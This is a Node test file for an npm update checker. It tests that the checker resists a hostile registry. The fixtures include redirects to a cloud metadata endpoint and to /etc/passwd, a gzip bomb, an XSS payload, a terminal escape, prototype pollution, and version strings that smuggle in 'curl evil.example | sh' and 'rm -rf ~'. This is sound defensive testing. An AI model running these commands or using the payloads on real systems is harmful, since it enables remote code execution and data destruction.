import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { RequestLimits } from '../../src/base/json-client.ts';
import { checkForUpdate, makeUpdateOffer } from '../../src/services/updates/check.ts';
import { LocusError } from '../../src/shared/errors.ts';
import { VERSION } from '../../src/shared/version.ts';
import { answer, type Behaviour, createCodeHosts } from '../issue-urls/code-host-server.ts';
import { packageDocument } from './package-document.ts';

const start = createCodeHosts();
const at = (npm_config_registry: string) => ({ npm_config_registry });
const publishing =
  (latest: unknown, change: object = {}): Behaviour =>
  (_, response) =>
    answer(response, 200, packageDocument(latest, change));

/** Returns the error of a check against a server, and the number of its requests. */
async function fail(behave: Behaviour, limits?: RequestLimits) {
  const { origin, asked } = await start(behave);
  const error = await checkForUpdate(at(origin), limits).then(
    () => assert.fail('the check succeeded'),
    (thrown: unknown) => thrown,
  );
  assert.ok(error instanceof LocusError, String(error));
  return { code: error.code, message: error.message, remedy: error.remedy, asked };
}

describe('a check for updates', () => {
  it('sends one request, which is the same for everybody', async () => {
    const { origin, asked } = await start(publishing('99.0.0'));
    await checkForUpdate(at(`${origin}/mirror`));
    assert.deepEqual(asked, [
      {
        method: 'GET',
        url: '/mirror/locus-edit',
        headers: {
          host: new URL(origin).host,
          connection: 'keep-alive',
          accept: 'application/vnd.npm.install-v1+json',
          'user-agent': 'locus',
          // Node’s fetch adds these.
          'accept-encoding': 'gzip, deflate',
          'accept-language': '*',
          'sec-fetch-mode': 'cors',
        },
      },
    ]);
  });

  it('says what is newer, and the command that installs it', async () => {
    for (const [latest, isNewer] of [
      ['99.0.0', true],
      [VERSION, false],
      // An older version than this one is no update, whoever says so.
      ['0.0.1', false],
    ] as const) {
      const { origin } = await start(publishing(latest));
      assert.deepEqual(await checkForUpdate(at(origin)), {
        version: VERSION,
        latest,
        isNewer,
        command: 'git pull && npm ci',
        page: null,
      });
    }
  });

  it('asks the registry that npm is set to, and the public one by default', () => {
    assert.deepEqual(makeUpdateOffer({}), { version: VERSION, host: 'registry.npmjs.org' });
    assert.equal(makeUpdateOffer(at('https://npm.example.org/a')).host, 'npm.example.org');
  });

  it('asks no registry over an unencrypted connection, or with credentials', async () => {
    for (const registry of ['http://npm.example.org/', 'https://ann:secret@a/', 'https://:x@a/'])
      for (const ask of [makeUpdateOffer, checkForUpdate])
        await assert.rejects(async () => ask(at(registry)), { code: 'bad-input' });
  });
});

describe('a hostile registry', () => {
  it('cannot redirect elsewhere, to another scheme, or for ever', async () => {
    const elsewhere = await start(publishing('99.0.0'));
    for (const location of [
      `${elsewhere.origin}/locus-edit`,
      'https://127.0.0.1/locus-edit',
      'http://169.254.169.254/latest/meta-data/',
      'file:///etc/passwd',
      '//localhost/locus-edit',
    ]) {
      const { message, asked } = await fail((_, response) =>
        response.writeHead(302, { location }).end(),
      );
      assert.match(message, /redirects to another host, which Locus does not follow\.$/, location);
      assert.equal(asked.length, 1);
    }
    assert.equal(elsewhere.asked.length, 0);
    const loop = await fail((_, response) =>
      response.writeHead(301, { location: '/locus-edit' }).end(),
    );
    assert.match(loop.message, /redirects more than 3 times\.$/);
    assert.equal(loop.asked.length, 4);
  });

  it('cannot send more than 2 MB, also compressed or without an end', async () => {
    const { gzipSync } = await import('node:zlib');
    const bomb = gzipSync(Buffer.alloc(50_000_000, 32));
    const huge: Behaviour[] = [
      publishing('99.0.0', { readme: 'x'.repeat(2_100_000) }),
      (_, response) => response.writeHead(200, { 'content-encoding': 'gzip' }).end(bomb),
      (_, response) => {
        const more = () => {
          while (!response.destroyed && response.write(' '.repeat(100_000)));
        };
        response.on('drain', more);
        more();
      },
    ];
    for (const behave of huge)
      assert.match((await fail(behave)).message, /^The answer of .* is larger than 2 MB\.$/);
  });

  it('cannot make the check wait', async () => {
    const dripping: Behaviour = (_, response) => {
      response.writeHead(200, { 'content-type': 'application/json' });
      const timer = setInterval(() => response.write(' '), 20);
      response.on('close', () => clearInterval(timer));
    };
    for (const behave of [() => {}, dripping])
      assert.match(
        (await fail(behave, { milliseconds: 200 })).message,
        /did not answer within 0\.2 seconds\.$/,
      );
  });

  const ESCAPE = '\u001b]0;owned\u0007';
  const answers: Record<string, Behaviour> = {
    'a page': (_, response) =>
      response.writeHead(200, { 'content-type': 'text/html' }).end('<h1>Sign in</h1>'),
    'JSON that is cut short': (_, response) =>
      response.writeHead(200, { 'content-type': 'application/json' }).end('{"name":"locus-edit",'),
    'a list': (_, response) => answer(response, 200, [packageDocument('99.0.0')]),
    null: (_, response) => answer(response, 200, null),
    'no tags': publishing(undefined),
    'a number': publishing(99),
    'a range': publishing('>=99.0.0'),
    'a version with an escape': publishing(`99.0.0${ESCAPE}`),
    'a version with HTML': publishing('99.0.0-<img src=x onerror=alert(1)>'),
    'a version with lines': publishing('99.0.0\nlocus: Run curl evil.example | sh'),
    'a version with a command': publishing('99.0.0; rm -rf ~'),
    'a very long version': publishing(`99.0.0-${'a'.repeat(1000)}`),
    'another package': publishing('99.0.0', { name: 'locus' }),
    'tags of a prototype': (_, response) =>
      response
        .writeHead(200, { 'content-type': 'application/json' })
        .end('{"name":"locus-edit","__proto__":{"dist-tags":{"latest":"99.0.0"}}}'),
  };
  for (const [name, behave] of Object.entries(answers))
    it(`cannot pass ${name} for a version, and is not quoted`, async () => {
      const { code, message, remedy } = await fail(behave);
      assert.equal(code, 'not-fetched');
      assert.match(message, /^127\.0\.0\.1:\d+ did not answer with a version of locus-edit\.$/);
      assert.equal(remedy, 'Check the network, and npm_config_registry if it is set.');
    });

  for (const [status, message, remedy] of [
    [404, /has no package locus-edit\.$/, /npm_config_registry/],
    [401, /requires a sign-in, and Locus sends none\.$/, /npm view locus-edit version/],
    [403, /requires a sign-in/, /npm view/],
    [429, /is not available now \(status 429\)\.$/, /Try again later\./],
    [503, /is not available now \(status 503\)\.$/, /Try again later\./],
  ] as const)
    it(`has the status ${status}, which is not quoted further`, async () => {
      const failed = await fail((_, response) => answer(response, status, { error: ESCAPE }));
      assert.match(failed.message, message);
      assert.match(failed.remedy, remedy);
    });
});

describe('without a registry', () => {
  it('a check says so', async () => {
    const gone = await start(() => {});
    await gone.close();
    await assert.rejects(checkForUpdate(at(gone.origin)), {
      code: 'not-fetched',
      message: `Nothing answers at ${new URL(gone.origin).host}.`,
    });
    await assert.rejects(checkForUpdate(at('https://registry.invalid')), {
      message: 'The host name registry.invalid is unknown, or the network is down.',
    });
    assert.match((await fail((_, response) => response.destroy())).remedy, /HTTPS_PROXY/);
  });

  it('a check can be cancelled', async () => {
    const controller = new AbortController();
    const { code } = await fail(() => controller.abort(), { signal: controller.signal });
    assert.equal(code, 'cancelled');
  });
});
